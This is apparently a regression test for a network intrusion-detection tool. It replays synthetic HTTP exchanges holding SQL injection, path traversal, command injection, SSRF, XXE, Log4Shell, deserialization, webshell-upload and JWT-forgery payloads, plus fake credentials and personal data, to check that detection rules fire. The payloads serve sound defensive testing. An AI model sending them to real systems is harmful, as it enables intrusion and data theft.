#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""One exchange a rule, sent through the whole program: the rule is raised, with its outcome where the answer tells one; and the
same request with a harmless answer or value raises nothing of it.

usage: calls.py TAPSCOPE"""
import base64
import hashlib
import hmac
import ipaddress
import json
import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, '../../pcaps'), os.path.join(HERE, '../../scripts')]
import score_attacks as score  # noqa: E402
import wire  # noqa: E402


def b64(raw):
    return base64.urlsafe_b64encode(raw).rstrip(b'=').decode()


def jwt(head, claims, key=b'kj3r9fh2kjhf92h3fkjh2k3jhf29hf2kjhf'):
    signing = b64(json.dumps(head).encode()) + '.' + b64(json.dumps(claims).encode())
    sign = b64(hmac.new(key, signing.encode(), hashlib.sha256).digest()) if head.get('alg') == 'HS256' else ''
    return signing + '.' + sign


def req(target, body='', method='', **headers):
    headers = {k.replace('_', '-'): v for k, v in headers.items()}
    return score.head(method or ('POST' if body else 'GET'), target, headers, body if isinstance(body, bytes) else body.encode())


def resp(body='{"code":"OK"}', status='200 OK', mime='application/json', **headers):
    body = body if isinstance(body, bytes) else body.encode()
    lines = ''.join('%s: %s\r\n' % (k.replace('_', '-'), v) for k, v in headers.items())
    return ('HTTP/1.1 %s\r\nContent-Type: %s\r\n%sContent-Length: %d\r\n\r\n' % (status, mime, lines, len(body))).encode() + body


JSON = 'application/json'
FORM = 'application/x-www-form-urlencoded'
PART = 'multipart/form-data; boundary=xx'
PAGE = '<!doctype html><html><head><title>%s</title></head><body>' + 'some text of a page ' * 20 + '</body></html>'
NOT_FOUND = resp('{"code":404}', '404 Not Found')
EXP = {'sub': 'u1', 'exp': 2000000000, 'iat': 1790000000}


def upload(name, content, mime='image/jpeg'):
    return '--xx\r\nContent-Disposition: form-data; name="f"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n--xx--\r\n' % (name, mime, content)


def deep(n):
    return json.dumps({'query': '{' + 'a{' * n + 'id' + '}' * n + '}'})


# rule, outcome (None: any), request, answer
CASES = [
    ('sqli', 'attempted', req('/api/v1/items?id=1%27%20or%20%271%27=%271'), NOT_FOUND),
    ('sqli', 'probable', req('/api/v1/items?id=1%27%20or%20%271%27=%272'), resp('{"error":"You have an error in your SQL syntax"}', '500 Error')),
    ('traversal', 'success', req('/api/file?name=../../../../etc/passwd'), resp('root:x:0:0:root:/root:/bin/bash\n', mime='text/plain')),
    ('cmdi', 'success', req('/ping?host=127.0.0.1;id'), resp('uid=0(root) gid=0(root) groups=0(root)\n', mime='text/plain')),
    ('ssrf', None, req('/fetch?url=http://169.254.169.254/latest/meta-data/'), NOT_FOUND),
    ('xxe', None, req('/xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', Content_Type='application/xml'), NOT_FOUND),
    ('ssti', None, req('/hello?name=%7B%7B7*7%7D%7D'), NOT_FOUND),
    ('ssi', None, req('/hello?name=%3C!--%23exec%20cmd%3D%22ls%22--%3E'), NOT_FOUND),
    ('expression_injection', None, req('/spel', 'q=%23%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D', Content_Type=FORM), NOT_FOUND),
    ('struts2', None, req('/index.action?redirect:%24%7B%23context%5B%22xwork.MethodAccessor.denyMethodExecution%22%5D%3Dfalse%7D'), NOT_FOUND),
    ('log4shell', None, req('/', User_Agent='${${lower:j}ndi:${lower:l}dap://x.example/a}'), NOT_FOUND),
    ('spring4shell', None, req('/', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', Content_Type=FORM), NOT_FOUND),
    ('deserialization', None, req('/api', '{"data":"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="}', Content_Type=JSON), NOT_FOUND),
    ('fastjson', None, req('/api', '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a","autoCommit":true}}', Content_Type=JSON), NOT_FOUND),
    ('shiro', None, req('/', Cookie='rememberMe=' + 'QUJD' * 100), resp('', '302 Found', Set_Cookie='rememberMe=deleteMe; Path=/')),
    ('php_injection', None, req('/x?c=%3C%3Fphp%20echo%20$_GET%5B1%5D%3B%3F%3E'), NOT_FOUND),
    ('nodejs_injection', None, req('/x', '{"__proto__":{"admin":true}}', Content_Type=JSON), NOT_FOUND),
    ('java_injection', None, req('/x?c=java.lang.ProcessBuilder'), NOT_FOUND),
    ('nosqli', None, req('/login', '{"username":{"$ne":null},"password":{"$ne":null}}', Content_Type=JSON), NOT_FOUND),
    ('ldapi', None, req('/x?u=*)(uid=*))(%7C(uid=*'), NOT_FOUND),
    ('xpathi', None, req("/x?u=%27%5D%7C//user/*%7C//a%5B%27"), NOT_FOUND),
    ('crlf', None, req('/x?u=a%0d%0aSet-Cookie:%20a=b'), NOT_FOUND),
    ('file_inclusion', None, req('/x?page=php://filter/convert.base64-encode/resource=index.php'), NOT_FOUND),
    ('xss', 'probable', req('/s?q=%3Cscript%3Ealert(1)%3C/script%3E'), resp('<html><p><script>alert(1)</script></p></html>', mime='text/html')),
    ('graphql_abuse', None, req('/graphql', deep(20), Content_Type=JSON), NOT_FOUND),
    ('graphql_abuse', None, req('/graphql', json.dumps([{'query': '{me{id}}'}] * 40), Content_Type=JSON), NOT_FOUND),
    ('http_smuggling', None, b'POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n', NOT_FOUND),
    ('http_evasion', None, req('/x?foo[1]bar=2'), NOT_FOUND),
    ('http_evasion', None, req('/x', 'a=b', Content_Type=FORM + '; boundary="application/json"'), NOT_FOUND),
    ('session_fixation', None, req('/x?test=.cookie;expires=Thu'), NOT_FOUND),
    ('file_upload', None, req('/upload', upload('a.jsp;.jpg', 'hello'), Content_Type=PART), NOT_FOUND),
    ('webshell', None, req('/upload', upload('a.php', '<?php @eval($_POST["x"]); ?>'), Content_Type=PART), NOT_FOUND),
    ('webshell', 'success', req('/uploads/a.jsp?cmd=id'), resp('uid=0(root) gid=0(root)\n', mime='text/plain')),
    ('scanner', None, req('/', User_Agent='sqlmap/1.7 (https://sqlmap.org)'), NOT_FOUND),
    ('actuator_exposure', None, req('/actuator/env'), resp('{"activeProfiles":[],"propertySources":[{"name":"systemProperties"}]}')),
    ('exposed_surface', None, req('/.git/HEAD'), resp('ref: refs/heads/master\n', mime='text/plain')),
    ('directory_listing', None, req('/files/'), resp('<html><head><title>Index of /files</title></head></html>', mime='text/html')),
    ('error_leak', None, req('/api/x'), resp('{"trace":"java.lang.NullPointerException\\n\\tat com.acme.A.b(A.java:10)"}', '500 Error')),
    ('plaintext_credentials', None, req('/api/login', '{"username":"anna","password":"T9k!x2-LmQ"}', Content_Type=JSON), resp('{"code":401}', '401 Unauthorized')),
    ('weak_password', None, req('/api/login', '{"username":"admin","password":"admin123"}', Content_Type=JSON), resp('{"code":0,"token":"abcdef0123456789abcdef"}')),
    ('weak_password', None, req('/manager', Authorization='Basic ' + base64.b64encode(b'tomcat:tomcat').decode()), resp()),
    ('weak_jwt', None, req('/api/me', Authorization='Bearer ' + jwt({'alg': 'none'}, EXP)), resp()),
    ('weak_jwt', None, req('/api/me2', Host='b.example', Authorization='Bearer ' + jwt({'alg': 'HS256'}, EXP, b'secret')), resp()),
    ('jwt_forgery', 'attempted', req('/api/me', Authorization='Bearer ' + jwt({'alg': 'HS256', 'kid': '../../dev/null'}, EXP)), resp('{}', '401 Unauthorized')),
    ('token_in_url', None, req('/api/me?access_token=' + jwt({'alg': 'HS256', 'kid': 'k1'}, EXP)), resp()),
    ('secrets_in_response', None, req('/api/config'), resp('{"aws":{"accessKeyId":"AKIAQ3EGRIXZ7JWK5T2P"},"key":"-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEAx7\\n-----END RSA PRIVATE KEY-----"}')),
    ('unauthenticated_personal_data', None, req('/api/people'), resp('{"name":"\u5f20\u4f1f","idNo":"11010519491231002X","mobile":"13812345678"}')),
    ('missing_security_headers', None, req('/'), resp(PAGE % 'x', mime='text/html')),
    ('insecure_cookie', None, req('/'), resp(Set_Cookie='SESSIONID=abc123; Path=/')),
]
# rule, exchanges with one server in turn
SERIES = [
    ('image_tag_moved', [(req('/v2/team/app/manifests/v1', Accept='application/vnd.docker.distribution.manifest.v2+json', Authorization='Bearer abc'),
                          resp('{"schemaVersion":2,"config":{"digest":"sha256:%s"},"layers":[]}' % (c * 64),
                               mime='application/vnd.docker.distribution.manifest.v2+json', Docker_Content_Digest='sha256:' + c * 64)) for c in 'ab']),
]
# what must not be said of these
QUIET = [
    ('weak_jwt', req('/api/me3', Host='c.example', Authorization='Bearer ' + jwt({'alg': 'HS256', 'kid': 'k1'}, EXP)), resp()),
    ('jwt_forgery', req('/api/me4', Host='c.example', Authorization='Bearer ' + jwt({'alg': 'HS256', 'kid': 'k1'}, EXP)), resp()),
    ('weak_password', req('/api/login', '{"username":"anna","password":"admin123"}', Content_Type=JSON), resp('{"code":401}', '401 Unauthorized')),
    ('actuator_exposure', req('/actuator/health'), resp('{"status":"UP"}')),
    ('insecure_cookie', req('/'), resp(Set_Cookie='SESSIONID=abc123; Path=/; HttpOnly; Secure; SameSite=Lax')),
    ('error_leak', req('/api/x'), resp('{"error":"not found"}', '404 Not Found')),
    ('http_evasion', req('/x?filter[0].name=a&ids[]=1&m[a][b]=2'), resp()),
    ('http_evasion', req('/soap', '<a/>', Content_Type='multipart/related; type="application/xop+xml"; boundary=xx'), resp()),
    ('graphql_abuse', req('/graphql', '{"query":"query Q($id:ID!){user(id:$id){id name address{city}}}"}', Content_Type=JSON), resp()),
]


def exchange(cap, ns, client, server, request, response):
    parts = ((0, request), (1, response))
    return wire.exchange(cap, ns, client, 40000, server, 80, parts, mss=1400, step=50000) + 2 * 10**6


def main():
    wrong = []
    with tempfile.TemporaryDirectory() as tmp:
        cap, ns = wire.Capture(), 1_790_000_000 * 10**9
        base = int(ipaddress.ip_address('60.0.0.1'))
        every = [(c[0], c[2], c[3]) for c in CASES] + QUIET
        for n, (_, request, response) in enumerate(every):
            ns = exchange(cap, ns, str(ipaddress.ip_address(base + n)), '10.99.%d.10' % n, request, response)
        for n, (_, exchanges) in enumerate(SERIES):
            for k, (request, response) in enumerate(exchanges):
                ns = exchange(cap, ns, '61.0.%d.%d' % (n, k + 1), '10.98.%d.10' % n, request, response)
        cap.write(os.path.join(tmp, 'calls.pcap'))
        out = os.path.join(tmp, 'out.jsonl')
        subprocess.run([sys.argv[1], 'replay', '-q', '-o', 'file:' + out, '--only', 'finding', os.path.join(tmp, 'calls.pcap')], check=True)
        seen = {}
        for line in open(out, encoding='utf-8'):
            r = json.loads(line)
            for ip in r['related']['ip']:
                seen.setdefault(ip, {})[r['rule']['id']] = r
    for n, (rule, outcome, _, _) in enumerate(CASES):
        here = seen.get('10.99.%d.10' % n, {})
        r = here.get(rule)
        if not r:
            wrong.append('case %d: %s not raised, but %s' % (n, rule, sorted(here)))
            continue
        f = r['tapscope']['finding']
        if outcome and f['outcome'] != outcome:
            wrong.append('case %d: %s is %s, expected %s' % (n, rule, f['outcome'], outcome))
        for key in ('reason_zh', 'remedy', 'remedy_zh', 'name_zh'):
            if not f.get(key):
                wrong.append('case %d: %s without %s' % (n, rule, key))
        if not r['threat']['technique']['id'] or not r['tapscope']['owasp'] or not r['tapscope']['evidence']:
            wrong.append('case %d: %s without a technique, an OWASP id or evidence' % (n, rule))
    for n, (rule, _) in enumerate(SERIES):
        if rule not in seen.get('10.98.%d.10' % n, {}):
            wrong.append('series %d: %s not raised, but %s' % (n, rule, sorted(seen.get('10.98.%d.10' % n, {}))))
    for n, (rule, _, _) in enumerate(QUIET):
        if rule in seen.get('10.99.%d.10' % (len(CASES) + n), {}):
            wrong.append('quiet case %d: %s is raised' % (n, rule))
    print('\n'.join(wrong) or '%d cases' % (len(CASES) + len(QUIET)))
    return bool(wrong)


if __name__ == '__main__':
    sys.exit(main())
